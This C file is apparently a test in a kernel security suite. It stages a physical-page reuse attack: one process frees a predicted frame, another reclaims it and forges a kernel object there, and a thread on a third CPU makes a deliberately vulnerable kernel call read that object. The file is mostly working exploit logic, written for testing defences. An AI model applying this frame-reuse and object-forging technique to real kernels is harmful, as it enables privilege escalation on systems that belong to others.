/*
 * A frame goes from one process, which gives it back, to another, which puts a forged object there.
 * A processor that runs neither of them has the kernel read it in between.
 */
#include <sched.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

enum { CPU_OF_ACCOMPLICES, CPU_OF_VICTIM, NR_CPUS };
enum { STAGE_GIVEN_BACK = 1, STAGE_WARMED, STAGE_FORGED, STAGE_CALLED };
enum { NR_TRIES = 64 };

/* What the three processes share. */
struct shared {
	attack_stage stage;
	struct attack_frame frame;
	bool is_lost;
};

static struct shared *shared;
static pid_t attacker;

/* Nobody needs an accomplice any more once the attacker is gone. */
static void accomplice_await(unsigned int stage)
{
	while (shared->stage < stage) {
		if (getppid() != attacker) {
			_exit(0);
		}
		sched_yield();
	}
}

static _Noreturn void linger(void)
{
	const struct timespec nap = { .tv_nsec = 10 * 1000 * 1000 };

	while (getppid() == attacker) {
		nanosleep(&nap, NULL);
	}
	_exit(0);
}

/* Has the frame first, and gives it back. */
static _Noreturn void first_owner(const struct bw_leak *leak)
{
	uintptr_t page;

	attack_frame_predict(leak, &shared->frame);
	page = (uintptr_t)attack_frame_take(&shared->frame);
	if (page != 0) {
		attack_say("one process has frame 0x%lx, and gives it back", shared->frame.pfn);
		munmap((void *)(page & -(uintptr_t)BW_HUGE_PAGE_SIZE), BW_HUGE_PAGE_SIZE);
	}
	attack_tell(&shared->stage, STAGE_GIVEN_BACK);
	linger();
}

/* The forged object names the attacker's process: that is what the leak is of. */
static _Noreturn void second_owner(const struct bw_leak *leak)
{
	void *page = NULL;

	accomplice_await(STAGE_WARMED);
	for (int i = 0; i < NR_TRIES && page == NULL; i++) {
		page = attack_frame_take(&shared->frame);
	}
	if (page != NULL) {
		attack_say("another has it now, and forges an object there");
		payload_object(page, shared->frame.synonym, leak);
	}
	shared->is_lost = page == NULL;
	attack_tell(&shared->stage, STAGE_FORGED);
	linger();
}

static void victim(void *unused)
{
	(void)unused;
	attack_await(&shared->stage, STAGE_GIVEN_BACK, AWAIT_SPIN);
	attack_warm(shared->frame.synonym);
	attack_tell(&shared->stage, STAGE_WARMED);
	attack_await(&shared->stage, STAGE_FORGED, AWAIT_SPIN);
	if (shared->is_lost) {
		attack_skip("the other process did not get the frame");
	}
	attack_check("vuln_call", bw_vuln_call(shared->frame.synonym));
	attack_tell(&shared->stage, STAGE_CALLED);
}

static pid_t start(void (*body)(const struct bw_leak *leak), const struct bw_leak *leak)
{
	pid_t child = fork();

	if (child == 0) {
		body(leak);
	}
	if (child < 0) {
		attack_skip("no process to be had");
	}
	return child;
}

int main(void)
{
	struct bw_leak leak;
	pid_t first, second;

	attack_begin(&leak, NR_CPUS, CPU_OF_ACCOMPLICES);
	attacker = getpid();
	shared = mmap(NULL, sizeof(*shared), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1,
		      0);
	if (shared == MAP_FAILED) {
		attack_skip("no memory to share");
	}
	first = start(first_owner, &leak);
	second = start(second_owner, &leak);
	attack_thread(CPU_OF_VICTIM, victim, NULL);
	/*
	 * A page of this process that is unmapped or copied from here on would have the victim's
	 * processor flush: so nothing is said, and nothing touched for the first time.
	 */
	attack_await(&shared->stage, STAGE_CALLED, AWAIT_YIELD);
	kill(first, SIGKILL);
	kill(second, SIGKILL);
	waitpid(first, NULL, 0);
	waitpid(second, NULL, 0);
	return attack_finish();
}
